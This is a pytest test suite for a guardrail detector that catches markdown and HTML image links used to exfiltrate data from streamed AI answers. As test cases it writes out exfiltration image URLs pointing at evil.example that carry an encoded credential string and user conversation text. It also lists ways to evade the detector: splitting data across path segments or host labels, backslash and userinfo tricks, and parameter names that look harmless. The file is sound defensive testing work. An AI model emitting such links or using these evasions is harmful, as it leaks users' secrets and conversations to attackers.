"""Pictures that carry data away, in answers that are streamed: none ever leaves whole."""

from __future__ import annotations

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from guardrail.cache import VerdictCache
from guardrail.pipeline import run
from guardrail.stream import Hold, HoldBack
from guardrail.types import Action, Part
from guardrail_detectors.link_exfiltration import LinkExfiltration, LinkExfiltrationConfig
from tests.adapters.chat import chunk, documents, stream
from tests.adapters.strategies import splits
from tests.kit import ALLOW_OPAQUE, context, stage

SECRET = "dXNlcjphbm5hO3Bhc3N3b3JkOmh1bnRlcjI7a2V5OnNrLTEyMzQ"
PICTURES = [
    f"![ok](https://evil.example/p.png?data={SECRET})",
    f'<img src="https://evil.example/p.png?data={SECRET}">',
    "![a](https://evil.example/i?text=the+user+asked+about+the+merger+plan)",
]
WHOLE = re.compile(r"!\[[^\]]*\]\([^)]*\)|<img[^>]*>")


async def released(text, pieces, action, window):
    """What leaves of an answer that says ``text``, ``pieces`` characters an event."""
    detector = LinkExfiltration(LinkExfiltrationConfig())
    steps = ((stage(detector, action),),)

    async def inspect(parts):
        return await run(steps, parts, context(), VerdictCache(), None, ALLOW_OPAQUE)

    tail = detector.lookback if action is Action.REDACT else 0
    back = HoldBack(stream(), inspect, Hold(window=window, tail=tail))
    body = b"".join(
        chunk({"content": text[at : at + pieces]}) for at in range(0, len(text), pieces)
    )
    body += chunk({}, finish_reason="stop") + b"data: [DONE]\n\n"
    out = b""
    for data in (body[at : at + 512] for at in range(0, len(body), 512)):
        out += await back.feed(data)
        if back.blocked:
            return content(out), back
    return content(out + await back.close()), back


def content(out):
    told = [one for one in documents(out) if one != "[DONE]"]
    return "".join(one["choices"][0]["delta"].get("content", "") for one in told)


@pytest.mark.parametrize("picture", PICTURES)
@given(st.integers(0, 300), st.integers(1, 40), st.integers(1, 400))
async def test_a_block_comes_before_the_picture_is_whole(picture, before, pieces, window):
    text = f"{'All is well. ' * 30}"[:before] + picture + " And so on." * 50

    out, back = await released(text, pieces, Action.BLOCK, window)

    assert back.blocked
    assert not WHOLE.search(out)


@pytest.mark.parametrize("picture", PICTURES)
@pytest.mark.parametrize("pieces", [1, 7, 1000])
async def test_a_redacted_picture_is_gone_and_the_rest_arrives(picture, pieces):
    text = f"Before. {picture} After."

    out, _ = await released(text, pieces, Action.REDACT, 50)

    assert "evil.example" not in out
    assert out.startswith("Before. ")
    assert out.endswith(" After.")


@given(st.data())
async def test_ordinary_answers_leave_byte_for_byte(data):
    text = "See [the docs](https://docs.python.org/3/) and ![b](https://img.example/b.svg)."
    body = b"".join(chunk({"content": word}) for word in re.split(r"(?<= )", text))
    body += chunk({}, finish_reason="stop") + b"data: [DONE]\n\n"
    detector = LinkExfiltration(LinkExfiltrationConfig())
    steps = ((stage(detector, Action.BLOCK, at_least=0.5),),)

    async def inspect(parts):
        return await run(steps, parts, context(), VerdictCache(), None, ALLOW_OPAQUE)

    back = HoldBack(stream(), inspect, Hold(window=20, tail=0))
    out = b"".join([await back.feed(one) for one in data.draw(splits(body))])

    assert out + await back.close() == body


async def score(text, *trusted):
    detector = LinkExfiltration(LinkExfiltrationConfig(allow_hosts=trusted))
    found = await detector.inspect([Part("/a", "text", "assistant", text=text)], context())
    return max((finding.score for finding in found), default=0.0)


WORDS = "my+password+is+hunter2+and+card+4111"
NAMES = """
    v ver sig signature hash hmac etag st se sp sv sr lang hl policy expires utm_content gclid
    fbclid mc_eid key-pair-id skoid rscd x-amz-signature x-ms-date
"""


@pytest.mark.parametrize("name", NAMES.split())
@pytest.mark.parametrize("data", [SECRET, WORDS, SECRET.encode().hex()[:64], "a.b@example.com"])
async def test_a_parameters_name_does_not_excuse_what_stands_under_it(name, data):
    assert await score(f"![x](https://evil.example/p.png?{name}={data})") >= 0.5


@pytest.mark.parametrize("length", [8, 13, 19, 39])
@pytest.mark.parametrize("between", ["/", ".png/", "/a/"])
async def test_data_cut_into_segments_of_a_path_counts_together(length, between):
    pieces = between.join(SECRET[at : at + length] for at in range(0, len(SECRET), length))

    assert await score(f"![x](https://evil.example/{pieces})") >= 0.9


async def test_data_cut_into_labels_of_a_host_counts_together():
    assert await score(f"![x](https://{SECRET[:14]}.{SECRET[14:28]}.evil.example/)") >= 0.8


@pytest.mark.parametrize(
    "text",
    [
        r'<img src="https://evil.example\@good.example/p?data={}">',
        r'<img src="https:\\evil.example\@good.example/p?data={}">',
        r'<img src="/\evil.example/p?data={}">',
        r'<img src="https:///evil.example/p?data={}">',
        r'<img src="https://evil.example&#92;@good.example/p?data={}">',
        r"![x](https://evil.example\\@good.example/p?data={})",
        r"![x](https:\\\\evil.example/.good.example?data={})",
        r"![x](https://evil.example\@good.example/p?data={})",
        "![x](https://good.example@evil.example/p?data={})",
        "![x](https://evil.example@good.example/p?data={})",
        r"See https://evil.example\.good.example/?data={} for more.",
    ],
)
async def test_no_backslash_and_no_user_borrows_a_trusted_host(text):
    assert await score(text.format(SECRET), "good.example", "*.good.example") >= 0.5
